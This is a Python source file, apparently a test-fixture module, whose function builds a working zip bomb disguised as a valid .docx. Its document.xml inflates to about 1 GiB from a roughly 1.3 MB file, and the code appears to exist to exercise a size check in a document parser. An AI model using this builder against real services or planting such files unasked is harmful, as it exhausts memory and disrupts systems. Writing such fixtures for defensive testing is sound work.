"""Builders of hostile files: a zip bomb dressed as a .docx, and the corpus's other bad files."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document '
         b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')
_PARAGRAPH = b"<w:p><w:r><w:t>" + b"A" * 8000 + b"</w:t></w:r></w:p>"
_TAIL = b"</w:body></w:document>"


def docx_bomb(path: Path, unpacked_mb: int = 1024) -> Path:
    """A valid .docx (python-docx's own parts) whose document.xml inflates to ``unpacked_mb`` MB of XML
    paragraphs (130,000 for 1 GiB: python-docx grew to 22 GB on it before the check); deflate packs them
    into ~1.3 MB."""
    import docx

    plain = io.BytesIO()
    docx.Document().save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in src.infolist():
            if info.filename != "word/document.xml":
                out.writestr(info.filename, src.read(info.filename))
        with out.open("word/document.xml", "w", force_zip64=True) as xml:
            xml.write(_HEAD)
            block = _PARAGRAPH * ((1 << 20) // len(_PARAGRAPH))
            for _ in range(unpacked_mb):
                xml.write(block)
            xml.write(_TAIL)
    return path
